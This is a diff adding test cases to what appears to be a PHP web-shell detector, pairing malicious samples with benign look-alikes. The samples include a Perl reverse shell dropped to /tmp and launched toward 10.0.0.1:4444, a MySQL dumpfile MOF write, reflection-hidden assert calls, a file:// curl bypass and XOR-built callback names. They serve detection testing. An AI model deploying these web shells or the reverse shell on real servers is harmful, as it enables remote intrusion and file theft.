@@ -344,3 +344,54 @@ def test_payload_put_in_front_of_a_files_old_contents():
 
 def test_a_banner_put_in_front_of_a_text_file_is_clean():
     _clean("<?php $f = 'notes.txt'; $old = file_get_contents($f); file_put_contents($f, 'updated: ' . $old);")
+
+
+def test_statement_built_with_request_data_on_a_request_named_server():
+    _shell("<?php $l = mysql_connect($_POST['h'], $_POST['u'], $_POST['p']);"
+           " mysql_query(\"select '\" . $_POST['c'] . \"' into dumpfile 'c:/x.mof'\");", rule="php.sql-client")
+
+
+def test_escaped_value_in_a_statement_on_configured_credentials_is_clean():
+    _clean("<?php $l = mysql_connect('db', 'app', 'pw'); mysql_query(\"SELECT * FROM t WHERE n = '\""
+           " . mysql_real_escape_string($_POST['n']) . \"'\");")
+
+
+def test_function_named_in_a_doc_comment():
+    code = """<?php
+/** assert */
+class D {}
+$rc = new ReflectionClass('D');
+$s = $rc->getDocComment();
+$fn = substr($s, strpos($s, 'assert'), 6);
+$fn('1');"""
+    _shell(code, rule="php.obfuscated-eval")
+
+
+def test_curl_reading_request_paths_through_file_urls():
+    _shell("<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'file:file:///' . $_GET['f']); curl_exec($c);",
+           rule="php.wrapper-bypass")
+
+
+def test_curl_fetching_a_fixed_url_is_clean():
+    _clean("<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://api.example/v1/' . urlencode($_GET['q']));"
+           " echo htmlspecialchars(curl_exec($c));")
+
+
+_PERL_BC = ("#!/usr/bin/perl\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
+            "connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0])));\nopen(STDIN, \">&S\");\nopen(STDOUT, \">&S\");\n"
+            "system('/bin/sh -i');\n")
+
+
+def test_back_connect_script_written_to_disk():
+    _shell(f"<?php $f = fopen('/tmp/.x', 'w'); fputs($f, base64_decode('{_b64(_PERL_BC)}')); fclose($f);"
+           " shell_exec('perl /tmp/.x 10.0.0.1 4444 &');", rule="php.backconnect-drop")
+
+
+def test_writing_a_perl_helper_script_is_clean():
+    helper = "#!/usr/bin/perl\nuse strict;\nopen(my $fh, '<', $ARGV[0]) or die;\nprint while <$fh>;\n"
+    _clean(f"<?php file_put_contents('/tmp/cat.pl', base64_decode('{_b64(helper)}'));")
+
+
+def test_callback_named_by_xor_fed_a_request_key():
+    _shell(f"<?php $f = {_xor_pairs('qqqqqq')}; array_intersect_uassoc(array($_REQUEST['k'] => ''), array(1), $f);",
+           rule="php.computed-function")
